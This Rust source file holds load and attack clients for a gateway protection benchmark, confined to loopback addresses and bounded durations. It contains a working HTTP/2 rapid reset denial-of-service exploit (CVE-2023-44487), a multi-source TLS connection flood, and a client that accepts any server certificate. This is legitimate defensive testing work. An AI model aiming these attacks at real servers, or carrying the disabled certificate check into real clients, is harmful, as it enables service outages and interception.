//! Load, attack and probe clients for the protection benchmark (not part of the
//! gateway). Loopback only: every source address must be in 127.0.0.0/8, every loop is
//! bounded by a duration.
//!
//! - `legit ADDR SRC RATE SECONDS`: a legitimate client from source address SRC:
//!   `GET /` at RATE requests per second over TLS keep-alive (a new connection when the
//!   gateway closes one), each with a 2 s deadline. Prints the success rate and
//!   latency percentiles as JSON.
//! - `flood ADDR SOURCES SECONDS CONCURRENCY`: a connection flood from SOURCES distinct
//!   addresses (127.20.0.1 on): each connection a TLS handshake and one request, the
//!   next from the next source.
//! - `rapid-reset ADDR SRC SECONDS CONNECTIONS`: HTTP/2 rapid reset (CVE-2023-44487):
//!   on each connection, HEADERS then RST_STREAM(CANCEL) on stream after stream as
//!   fast as the socket takes them; reconnects when the server closes.
//!
//! The client does not verify the server certificate (its cost must stay small);
//! never use this verifier elsewhere.

#[path = "support/dangerous_verifier.rs"]
mod dangerous_verifier;

use std::io::Write;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;

use dangerous_verifier::DangerousAcceptAnyCertificate;

type Error = Box<dyn std::error::Error + Send + Sync>;

fn connector(alpn: &[u8]) -> Result<tokio_rustls::TlsConnector, Error> {
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let mut config = rustls::ClientConfig::builder_with_provider(provider.clone())
        .with_protocol_versions(&[&rustls::version::TLS13])?
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(DangerousAcceptAnyCertificate(provider)))
        .with_no_client_auth();
    config.alpn_protocols = vec![alpn.to_vec()];
    Ok(tokio_rustls::TlsConnector::from(Arc::new(config)))
}

fn loopback(ip: IpAddr) -> Result<IpAddr, Error> {
    if ip.is_loopback() {
        Ok(ip)
    } else {
        Err(format!("{ip} is not a loopback address").into())
    }
}

type Tls = tokio_rustls::client::TlsStream<tokio::net::TcpStream>;

async fn connect(
    c: &tokio_rustls::TlsConnector,
    src: IpAddr,
    to: SocketAddr,
) -> Result<Tls, Error> {
    let s = TcpSocket::new_v4()?;
    s.bind(SocketAddr::new(src, 0))?;
    let tcp = s.connect(to).await?;
    tcp.set_nodelay(true)?;
    let name = ServerName::try_from("localhost")?;
    Ok(c.connect(name, tcp).await?)
}

/// Reads one HTTP/1.1 response (headers and a Content-Length body); its status.
async fn response(tls: &mut Tls) -> Result<u16, Error> {
    let mut buf = Vec::with_capacity(1024);
    let mut chunk = [0u8; 4096];
    loop {
        let n = tls.read(&mut chunk).await?;
        if n == 0 {
            return Err("closed".into());
        }
        buf.extend_from_slice(&chunk[..n]);
        let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") else {
            continue;
        };
        let head = String::from_utf8_lossy(&buf[..end]).to_ascii_lowercase();
        let status: u16 = head
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or(0);
        let len: usize = head
            .lines()
            .find_map(|l| l.strip_prefix("content-length:"))
            .and_then(|v| v.trim().parse().ok())
            .unwrap_or(0);
        while buf.len() < end + 4 + len {
            let n = tls.read(&mut chunk).await?;
            if n == 0 {
                return Err("closed".into());
            }
            buf.extend_from_slice(&chunk[..n]);
        }
        return Ok(status);
    }
}

async fn legit(to: SocketAddr, src: IpAddr, rate: u32, seconds: u64) -> Result<(), Error> {
    let c = connector(b"http/1.1")?;
    let interval = Duration::from_secs_f64(1.0 / f64::from(rate.max(1)));
    let total = u64::from(rate) * seconds;
    let start = tokio::time::Instant::now();
    let mut conn: Option<Tls> = None;
    let (mut ok, mut failed) = (0u64, 0u64);
    let mut latencies = Vec::with_capacity(total as usize);
    for i in 0..total {
        tokio::time::sleep_until(start + interval * (i as u32)).await;
        let t = Instant::now();
        let one = async {
            if conn.is_none() {
                conn = Some(connect(&c, src, to).await?);
            }
            let Some(tls) = conn.as_mut() else {
                return Err::<u16, Error>("no connection".into());
            };
            tls.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
                .await?;
            response(tls).await
        };
        match tokio::time::timeout(Duration::from_secs(2), one).await {
            Ok(Ok(200)) => {
                ok += 1;
                latencies.push(t.elapsed().as_secs_f64() * 1000.0);
            }
            _ => {
                failed += 1;
                conn = None;
            }
        }
    }
    latencies.sort_by(f64::total_cmp);
    let pct = |p: f64| -> f64 {
        if latencies.is_empty() {
            return f64::NAN;
        }
        latencies[((latencies.len() as f64 * p).ceil() as usize).clamp(1, latencies.len()) - 1]
    };
    let mut out = std::io::stdout().lock();
    writeln!(
        out,
        "{{\"sent\": {total}, \"ok\": {ok}, \"failed\": {failed}, \"success\": {:.4}, \"p50_ms\": {:.2}, \"p99_ms\": {:.2}}}",
        ok as f64 / total.max(1) as f64,
        pct(0.50),
        pct(0.99)
    )?;
    Ok(())
}

async fn flood(to: SocketAddr, sources: u32, seconds: u64, concurrency: u32) -> Result<(), Error> {
    let c = connector(b"http/1.1")?;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(seconds);
    let next = Arc::new(AtomicU64::new(0));
    let counts: Arc<[AtomicU64; 3]> = Arc::new(Default::default());
    let mut tasks = Vec::new();
    for _ in 0..concurrency {
        let (c, next, counts) = (c.clone(), next.clone(), counts.clone());
        tasks.push(tokio::spawn(async move {
            while tokio::time::Instant::now() < deadline {
                let n = next.fetch_add(1, Ordering::Relaxed) % u64::from(sources.max(1));
                let src = IpAddr::V4(Ipv4Addr::from(0x7f14_0001u32 + n as u32));
                let one = async {
                    let mut tls = connect(&c, src, to).await?;
                    tls.write_all(
                        b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
                    )
                    .await?;
                    response(&mut tls).await
                };
                let i = match tokio::time::timeout(Duration::from_secs(5), one).await {
                    Ok(Ok(200)) => 0,
                    Ok(Ok(_)) => 1,
                    _ => 2,
                };
                counts[i].fetch_add(1, Ordering::Relaxed);
            }
        }));
    }
    for t in tasks {
        let _ = t.await;
    }
    let mut out = std::io::stdout().lock();
    writeln!(
        out,
        "{{\"ok\": {}, \"refused_status\": {}, \"failed\": {}}}",
        counts[0].load(Ordering::Relaxed),
        counts[1].load(Ordering::Relaxed),
        counts[2].load(Ordering::Relaxed)
    )?;
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8], out: &mut Vec<u8>) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

async fn rapid_reset(
    to: SocketAddr,
    src: IpAddr,
    seconds: u64,
    connections: u32,
) -> Result<(), Error> {
    let c = connector(b"h2")?;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(seconds);
    let streams = Arc::new(AtomicU64::new(0));
    let conns = Arc::new(AtomicU64::new(0));
    // GET / https localhost: indexed :method GET, :scheme https, :path /, then
    // :authority as a literal with an indexed name.
    let mut block = vec![0x82, 0x87, 0x84, 0x01, 9];
    block.extend_from_slice(b"localhost");
    let mut tasks = Vec::new();
    for _ in 0..connections {
        let (c, streams, conns, block) = (c.clone(), streams.clone(), conns.clone(), block.clone());
        tasks.push(tokio::spawn(async move {
            while tokio::time::Instant::now() < deadline {
                let one = async {
                    let mut tls = connect(&c, src, to).await?;
                    conns.fetch_add(1, Ordering::Relaxed);
                    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
                    frame(4, 0, 0, &[], &mut out);
                    frame(4, 1, 0, &[], &mut out); // ack the server's settings
                    tls.write_all(&out).await?;
                    let (mut rd, mut wr) = tokio::io::split(tls);
                    let reader = tokio::spawn(async move {
                        let mut sink = vec![0u8; 16384];
                        while let Ok(n) = rd.read(&mut sink).await {
                            if n == 0 {
                                break;
                            }
                        }
                    });
                    let mut id = 1u32;
                    while tokio::time::Instant::now() < deadline
                        && id < 0x7fff_0000
                        && !reader.is_finished()
                    {
                        let mut batch = Vec::with_capacity(64 * 40);
                        for _ in 0..64 {
                            frame(1, 0x5, id, &block, &mut batch);
                            frame(3, 0, id, &8u32.to_be_bytes(), &mut batch);
                            id += 2;
                        }
                        if wr.write_all(&batch).await.is_err() {
                            break;
                        }
                        streams.fetch_add(64, Ordering::Relaxed);
                    }
                    reader.abort();
                    Ok::<(), Error>(())
                };
                if tokio::time::timeout_at(deadline, one).await.is_err() {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        }));
    }
    for t in tasks {
        let _ = t.await;
    }
    let mut out = std::io::stdout().lock();
    writeln!(
        out,
        "{{\"streams_reset\": {}, \"connections\": {}}}",
        streams.load(Ordering::Relaxed),
        conns.load(Ordering::Relaxed)
    )?;
    Ok(())
}

fn main() -> Result<(), Error> {
    let args: Vec<String> = std::env::args().collect();
    let usage = "usage: attack legit ADDR SRC RATE SECONDS | flood ADDR SOURCES SECONDS CONCURRENCY | rapid-reset ADDR SRC SECONDS CONNECTIONS";
    if args.len() != 6 {
        return Err(usage.into());
    }
    let to: SocketAddr = args[2].parse()?;
    loopback(to.ip())?;
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    match args[1].as_str() {
        "legit" => rt.block_on(legit(
            to,
            loopback(args[3].parse()?)?,
            args[4].parse()?,
            args[5].parse::<u64>()?.min(600),
        )),
        "flood" => rt.block_on(flood(
            to,
            args[3].parse::<u32>()?.min(1 << 20),
            args[4].parse::<u64>()?.min(600),
            args[5].parse::<u32>()?.min(1024),
        )),
        "rapid-reset" => rt.block_on(rapid_reset(
            to,
            loopback(args[3].parse()?)?,
            args[4].parse::<u64>()?.min(600),
            args[5].parse::<u32>()?.min(256),
        )),
        _ => Err(usage.into()),
    }
}
